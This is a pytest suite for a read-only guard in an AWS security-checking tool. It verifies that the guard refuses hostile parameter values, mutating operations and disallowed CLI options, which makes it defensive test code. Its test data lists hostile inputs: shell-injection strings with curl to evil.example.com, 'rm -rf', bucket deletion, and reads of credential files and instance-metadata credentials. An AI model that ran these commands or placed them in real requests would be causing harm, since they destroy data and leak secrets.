"""The read-only guard: hostile names and parameters are refused before anything reaches a server,
and the allow-list is exactly what the check modules plan (no unused read, nothing that writes)."""

from __future__ import annotations

import ast
import json
import re
from pathlib import Path

import pytest

from agent_config.checks import registry
from agent_config.checks.evidence import ApiCall, Evidence, EvidenceItem
from agent_config.checks.registry import plan_all
from agent_config.integrations import direct_security
from agent_config.integrations.direct_api import DirectApi
from agent_config.integrations.read_only_guard import (
    PARAMETER_PATTERNS,
    READ_OPERATIONS,
    READS,
    STRUCTURED_PARAMETERS,
    check_call,
    cli_command,
)
from agent_config.utils.error_handling import InvalidInput

SERVICES_DIR = Path(registry.__file__).parent / "services"
GOLDEN = Path(__file__).parents[1] / "unit" / "checks" / "golden"
ACCOUNT_LOOKUP = ApiCall.of("sts", "get-caller-identity")
"""The one call outside the check modules: the collector's `account_id_of`."""
TEN_KB = 10 * 1024

# Values no parameter of any kind may take: injection, options, schemes, control characters,
# look-alikes, oversize.
HOSTILE_VALUES = [
    "acme-bucket --endpoint-url http://evil.example.com",
    "acme-bucket; aws s3 rb s3://acme-prod --force",
    "acme-bucket && curl http://evil.example.com",
    "acme-bucket | sh",
    "$(rm -rf /)",
    "`reboot`",
    "acme-bucket\naws iam delete-user --user-name admin",
    "acme-bucket\r\n--profile prod",
    "'acme-bucket'",
    '"acme-bucket"',
    "acme bucket",
    "--endpoint-url=http://169.254.169.254",
    "--profile=prod",
    "--region=eu-west-1",
    "acme --region eu-west-1",
    "acme\t--profile prod",
    "-acme",
    "acme-bucket#comment",
    "../../etc/passwd",
    "acme-bucket > /tmp/out",
    "acme-bucket\t--debug",
    "a" * 5000,
    "a" * TEN_KB,
    "1" * TEN_KB,
    "",
    "acme-bucket\x00",
    "\x00",
    "acme-bucket\\",
    "${AWS_SECRET_ACCESS_KEY}",
    "acme\n",
    "acme\r",
    "arn:aws:iam::123456789012:user/alice\n",
    "file:///etc/passwd",
    "fileb:///root/.aws/credentials",
    "FILE:///etc/passwd",
    "FileB://key.bin",
    "  file:///etc/passwd",
    "\tfileb://key.bin",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "https://evil.example.com/payload.json",
    "HTTPS://evil.example.com/payload.json",
    "\u0430cme-bucket",  # Cyrillic a
    "\uff41\uff43\uff4d\uff45",  # fullwidth "acme"
    "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662",  # Arabic-Indic 12 digits
    "acme\u200b",  # zero-width space
    "\u202eacme",  # right-to-left override
    "acme\u00a0bucket",  # no-break space
]
# Refused as a bucket name, though other kinds (IAM user names) may legitimately look like this.
HOSTILE_BUCKET_NAMES = ["ACME_BUCKET_UPPER", "acme-bucket,--region,eu-west-1", "acme@bucket"]
HOSTILE_OPERATIONS = [
    ("s3api", "delete-bucket"),
    ("s3api", "put-bucket-policy"),
    ("s3api", "put-public-access-block"),
    ("iam", "create-access-key"),
    ("iam", "attach-user-policy"),
    ("iam", "delete-user"),
    ("ec2", "terminate-instances"),
    ("ec2", "authorize-security-group-ingress"),
    ("ec2", "modify-instance-metadata-options"),
    ("kms", "schedule-key-deletion"),
    ("lambda", "add-permission"),
    ("lambda", "invoke"),
    ("secretsmanager", "get-secret-value"),
    ("ssm", "send-command"),
    ("sts", "assume-role"),
    ("s3", "rm"),
    ("organizations", "leave-organization"),
    ("cloudtrail", "stop-logging"),
    # Reads (or near-reads) no check plans: unused surface, and generate- writes a report.
    ("iam", "generate-credential-report"),
    ("iam", "get-credential-report"),
    ("iam", "list-entities-for-policy"),
    ("secretsmanager", "describe-secret"),
    ("configservice", "describe-delivery-channels"),
    ("cloudtrail", "lookup-events"),
    ("s3api", "head-bucket"),
    ("s3api", "get-object"),
    ("ec2", "describe-regions"),
    # Look-alikes of allowed operations.
    ("s3api", "list-buckets\n"),
    ("s3api ", "list-buckets"),
    ("S3API", "list-buckets"),
    ("s3api", "list-buckets --endpoint-url http://evil.example.com"),
]
HOSTILE_PARAMETERS = [
    ("endpoint-url", "http://evil.example.com"),
    ("profile", "prod"),
    ("region", "eu-west-1"),
    ("debug", "true"),
    ("cli-input-json", '{"Bucket": "x"}'),
    ("cli-input-yaml", "Bucket: x"),
    ("query", "Buckets[].Name"),
    ("output", "text"),
    ("max-items", "1"),
    ("starting-token", "abc"),
    ("no-verify-ssl", "true"),
    ("ca-bundle", "/tmp/evil.pem"),
]
MUTATING_PREFIXES = (
    "create",
    "put",
    "delete",
    "update",
    "modify",
    "attach",
    "detach",
    "generate",
    "start",
    "stop",
    "run",
    "invoke",
    "tag",
    "untag",
    "enable",
    "disable",
    "associate",
    "disassociate",
    "authorize",
    "revoke",
    "reset",
    "set",
    "add",
    "remove",
    "register",
    "deregister",
    "import",
    "export",
    "restore",
    "reboot",
    "terminate",
    "send",
    "schedule",
    "cancel",
    "copy",
    "upload",
    "replace",
    "accept",
    "reject",
    "assume",
    "leave",
    "purge",
    "lookup",
    "head",
)

# One valid value per parameter kind: the base the per-kind mutations below start from.
VALID_SAMPLES: dict[str, str] = {
    "bucket": "acme-prod-invoices",
    "account-id": "123456789012",
    "snapshot-id": "snap-0123456789abcdef0",
    "instance-id": "i-0123456789abcdef0",
    "db-snapshot-identifier": "nightly-2024-01-01",
    "db-cluster-snapshot-identifier": "arn:aws:rds:us-east-1:123456789012:cluster-snapshot:nightly",
    "attribute": "userData",
    "attribute-names": "All",
    "detector-id": "0123456789abcdef0123456789abcdef",
    "key-id": "1234abcd-12ab-34cd-56ef-1234567890ab",
    "function-name": "billing-export",
    "topic-arn": "arn:aws:sns:us-east-1:123456789012:alerts",
    "queue-url": "https://sqs.us-east-1.amazonaws.com/123456789012/orders",
    "name": "prod-cluster",
    "assignment-status": "Assigned",
    "snapshot-type": "manual",
    "table-name": "orders",
    "trail-name": "arn:aws:cloudtrail:us-east-1:123456789012:trail/main",
    "user-name": "alice",
    "access-key-id": "AKIAIOSFODNN7EXAMPLE",
    "policy-arn": "arn:aws:iam::123456789012:policy/admin",
    "version-id": "v1",
    "scope": "Local",
    "alternate-contact-type": "SECURITY",
    "owner-ids": "self",
    "load-balancer-arn": "arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer/app/web/50dc6c495c0c9188",
    "listener-arn": "arn:aws:elasticloadbalancing:us-east-1:123456789012:listener/app/web/50dc6c495c0c9188/f2f7dc8e",
    "filters": "Key=Owner,Values=Self",
    "permission-type": "Share",
    "analyzer-arn": "arn:aws:access-analyzer:us-east-1:123456789012:analyzer/account-analyzer",
    "finding-ids": "0123456789abcdef0123456789abcdef,fedcba9876543210fedcba9876543210",
}
STRUCTURED_SAMPLES: dict[tuple[str, str, str], str] = {
    (call.service, call.operation, name): value
    for call in reversed(direct_security.plannable_calls())
    for name, value in call.parameters
    if (call.service, call.operation, name) in STRUCTURED_PARAMETERS
}
"""A filter document of each kind, exactly as the security-services fallback builds it."""
KINDS = sorted(PARAMETER_PATTERNS)


def _sample(service: str, operation: str, name: str) -> str:
    return STRUCTURED_SAMPLES.get((service, operation, name)) or VALID_SAMPLES[name]


def call_with(kind: str, value: str) -> ApiCall:
    """An allowed operation that takes `kind` (as an identifier, not a filter document), with `value`
    for it and valid values for the rest."""
    service, operation = next(
        key for key, names in sorted(READS.items()) if kind in names and (*key, kind) not in STRUCTURED_PARAMETERS
    )
    parameters = {name: _sample(service, operation, name) for name in READS[(service, operation)]}
    parameters[kind] = value
    return ApiCall(
        service=service, operation=operation, region="us-east-1", parameters=tuple(sorted(parameters.items()))
    )


def _lookalike(value: str) -> str:
    """`value` with its first letter or digit swapped for the fullwidth form that renders alike."""
    index = next(i for i, char in enumerate(value) if char.isalnum())
    return value[:index] + chr(ord(value[index]) + 0xFEE0) + value[index + 1 :]


def mutations(sample: str) -> list[str]:
    """A valid value made hostile: terminated, prefixed, extended, disguised or blown up."""
    return [
        sample + "\n",
        sample + "\r\n",
        "\n" + sample,
        sample + "\x00",
        sample + "\x00--debug",
        sample + " --endpoint-url http://evil.example.com",
        sample + " --profile prod",
        sample + " --region eu-west-1",
        sample + "\n--region eu-west-1",
        sample + "; aws iam create-access-key",
        "file://" + sample,
        "fileb://" + sample,
        "http://" + sample,
        "https://" + sample,
        " FILE://" + sample,
        "\tHttps://" + sample,
        "-" + sample,
        _lookalike(sample),
        sample + "\u00a0",
        (sample * (TEN_KB // len(sample) + 1))[:TEN_KB],
    ]


HOSTILE_BY_KIND = [(kind, value) for kind in KINDS for value in HOSTILE_VALUES + mutations(VALID_SAMPLES[kind])]


@pytest.mark.parametrize("kind", KINDS)
def test_every_parameter_kind_has_a_valid_sample_that_passes(kind: str) -> None:
    check_call(call_with(kind, VALID_SAMPLES[kind]))


@pytest.mark.parametrize(
    ("kind", "value"), HOSTILE_BY_KIND, ids=[f"{kind}-{n}" for n, (kind, _) in enumerate(HOSTILE_BY_KIND)]
)
def test_hostile_values_are_refused_for_every_parameter_kind(kind: str, value: str) -> None:
    call = call_with(kind, value)

    with pytest.raises(InvalidInput, match="refused"):
        check_call(call)
    with pytest.raises(InvalidInput, match="refused"):
        cli_command(call, "us-east-1")


STRUCTURED_KINDS = sorted(STRUCTURED_PARAMETERS)
HOSTILE_DOCUMENTS = [
    (key, value)
    for key in STRUCTURED_KINDS
    for value in [
        *HOSTILE_VALUES,
        *mutations(STRUCTURED_SAMPLES[key]),
        STRUCTURED_SAMPLES[key].replace("ACTIVE", "ARCHIVED"),  # another state
        STRUCTURED_SAMPLES[key].replace(":", ": "),  # not the compact form
        STRUCTURED_SAMPLES[key][:-1] + ',"x":1}',  # a key more
        '{"Criterion":{"severity":{"GreaterThanOrEqual":0}}}',
        '{"status":{"eq":["ACTIVE"]},"resource":{"contains":["x"]}}',
    ]
    if value != STRUCTURED_SAMPLES[key]  # a mutation that changed nothing (no ACTIVE in it)
]


def _document_call(key: tuple[str, str, str], value: str) -> ApiCall:
    service, operation, kind = key
    parameters = {name: _sample(service, operation, name) for name in READS[(service, operation)]}
    parameters[kind] = value
    return ApiCall(
        service=service, operation=operation, region="us-east-1", parameters=tuple(sorted(parameters.items()))
    )


@pytest.mark.parametrize("key", STRUCTURED_KINDS, ids=str)
def test_every_filter_document_the_fallback_builds_passes_but_never_reaches_a_command_line(
    key: tuple[str, str, str],
) -> None:
    call = _document_call(key, STRUCTURED_SAMPLES[key])

    check_call(call)
    with pytest.raises(InvalidInput, match="only the boto3 path sends"):
        cli_command(call, "us-east-1")


@pytest.mark.parametrize(
    ("key", "value"),
    HOSTILE_DOCUMENTS,
    ids=[f"{'-'.join(key)}-{n}" for n, (key, _) in enumerate(HOSTILE_DOCUMENTS)],
)
def test_filter_documents_other_than_the_fallbacks_own_are_refused(key: tuple[str, str, str], value: str) -> None:
    with pytest.raises(InvalidInput, match="refused"):
        check_call(_document_call(key, value))


def test_a_filter_document_is_allowed_only_on_its_own_operation() -> None:
    macie = STRUCTURED_SAMPLES[("macie2", "list-findings", "finding-criteria")]
    call = _document_call(("guardduty", "list-findings", "finding-criteria"), macie)

    with pytest.raises(InvalidInput, match="refused"):
        check_call(call)


@pytest.mark.parametrize("value", HOSTILE_BUCKET_NAMES)
def test_hostile_bucket_names_are_refused(value: str) -> None:
    with pytest.raises(InvalidInput, match="refused"):
        check_call(ApiCall.of("s3api", "get-bucket-policy", bucket=value))


@pytest.mark.parametrize(
    "value", ["file:///etc/passwd", "  FILEB://key.bin", "HTTP://evil.example.com/x", "Values=file://x"]
)
def test_a_value_the_cli_would_load_from_a_file_or_url_is_refused_as_such(value: str) -> None:
    with pytest.raises(InvalidInput, match="URL scheme"):
        check_call(ApiCall.of("cloudtrail", "get-event-selectors", "us-east-1", trail_name=value))


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "fileb://x", "https://evil.example.com/123456789012/q", "http://sqs.amazonaws.com"]
)
def test_the_queue_url_is_a_url_but_only_an_sqs_or_loopback_one(url: str) -> None:
    with pytest.raises(InvalidInput, match="refused"):
        check_call(ApiCall.of("sqs", "get-queue-attributes", "us-east-1", queue_url=url, attribute_names="All"))


@pytest.mark.parametrize(("service", "operation"), HOSTILE_OPERATIONS, ids=str)
def test_mutating_unused_or_unlisted_operations_are_refused(service: str, operation: str) -> None:
    with pytest.raises(InvalidInput, match="refused"):
        check_call(ApiCall.of(service, operation))


@pytest.mark.parametrize(("name", "value"), HOSTILE_PARAMETERS, ids=str)
def test_options_that_change_where_or_how_a_command_runs_are_refused(name: str, value: str) -> None:
    with pytest.raises(InvalidInput, match="not allowed"):
        check_call(ApiCall(service="s3api", operation="list-buckets", parameters=((name, value),)))


def test_a_parameter_is_allowed_only_on_the_operations_planned_with_it() -> None:
    with pytest.raises(InvalidInput, match="not allowed"):
        check_call(ApiCall.of("s3api", "get-bucket-policy", bucket="acme", user_name="alice"))


def test_a_parameter_given_twice_is_refused() -> None:
    call = ApiCall(service="s3api", operation="get-bucket-policy", parameters=(("bucket", "a-b"), ("bucket", "c-d")))

    with pytest.raises(InvalidInput, match="more than once"):
        check_call(call)


@pytest.mark.parametrize(
    "region",
    [
        "us-east-1 --profile x",
        "mars-1",
        "us-east-1;",
        "",
        "US-EAST-1",
        "us-east-1\n",
        "us-east-1\r\n",
        "us-east-\uff11",
    ],
)
def test_regions_must_look_like_regions(region: str) -> None:
    with pytest.raises(InvalidInput, match="Region"):
        check_call(ApiCall.of("ec2", "describe-instances", region))
    with pytest.raises(InvalidInput, match="Region"):
        cli_command(ApiCall.of("iam", "list-users"), region)


def test_hostile_corpus_has_at_least_thirty_entries() -> None:
    assert len(HOSTILE_VALUES) + len(HOSTILE_OPERATIONS) + len(HOSTILE_PARAMETERS) >= 30


def test_a_valid_read_becomes_one_plain_cli_command() -> None:
    call = ApiCall.of("s3api", "get-bucket-policy", bucket="acme-prod-invoices")

    assert (
        cli_command(call, "us-east-1") == "aws s3api get-bucket-policy --bucket acme-prod-invoices --region us-east-1"
    )


def test_every_call_the_checks_plan_on_an_empty_account_passes_the_guard() -> None:
    calls = plan_all(["us-east-1", "eu-west-1"], Evidence(account_id="123456789012"))

    assert calls
    for call in calls:
        check_call(call)


# --- the allow-list is exactly what the plans produce ---------------------------------------------


def _plannable_calls() -> set[ApiCall]:
    """Every call the check modules plan: the golden cases hold, per module, exactly the calls its
    plan asks for over every round (tests/unit/checks/test_plans.py asserts that), plus the first
    round on an empty account, the collector's own account lookup, and every call shape of the
    security-services fallback (`direct_security.plannable_calls`, which
    tests/unit/test_direct_security.py keeps equal to the calls its readers make)."""
    calls = {ACCOUNT_LOOKUP, *direct_security.plannable_calls()}
    calls.update(plan_all(["us-east-1", "eu-west-1"], Evidence(account_id="123456789012")))
    for path in sorted(GOLDEN.glob("*/*.json")):
        case = json.loads(path.read_text(encoding="utf-8"))
        calls.update(EvidenceItem.model_validate(item).call for item in case["evidence"])
    return calls


def test_the_allowed_operations_are_exactly_those_the_checks_plan() -> None:
    planned = {(call.service, call.operation) for call in _plannable_calls()}

    assert set(READS) == planned, (
        f"allowed but never planned: {sorted(set(READS) - planned)}; "
        f"planned but refused: {sorted(planned - set(READS))}"
    )


def test_the_allowed_parameters_are_exactly_those_the_checks_plan() -> None:
    planned = {(call.service, call.operation, name) for call in _plannable_calls() for name, _ in call.parameters}
    allowed = {(service, operation, name) for (service, operation), names in READS.items() for name in names}

    assert allowed == planned, f"allowed but never planned: {sorted(allowed - planned)}"
    structured = set(STRUCTURED_PARAMETERS)
    assert structured <= allowed, sorted(structured - allowed)
    assert set(PARAMETER_PATTERNS) == {name for _, _, name in allowed - structured}


def test_every_operation_named_in_a_check_module_is_allowed() -> None:
    """A static cross-check for plan branches no golden case exercises: any string literal in a
    check module that reads like an operation name must be on the allow-list."""
    operation = re.compile(r"(get|list|describe|head|generate|lookup)-[a-z0-9-]+")
    allowed = {op for operations in READ_OPERATIONS.values() for op in operations}
    named: set[str] = set()
    for path in SERVICES_DIR.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and operation.fullmatch(node.value):
                named.add(node.value)

    assert named
    assert named <= allowed, sorted(named - allowed)


def test_nothing_on_the_allow_list_writes() -> None:
    for service, operation in READS:
        assert operation.startswith(("get-", "list-", "describe-", "batch-get-")), (service, operation)
        assert not operation.startswith(tuple(f"{prefix}-" for prefix in MUTATING_PREFIXES)), (service, operation)


def test_the_direct_boto3_path_refuses_too_without_calling_aws() -> None:
    def no_clients(service: str, region: str) -> object:
        raise AssertionError("a client was created for a refused call")

    item = DirectApi(no_clients).read(ApiCall.of("s3api", "delete-bucket", bucket="acme-prod"), "us-east-1")

    assert item.error_code == "RefusedByGuard"
    assert not item.ok
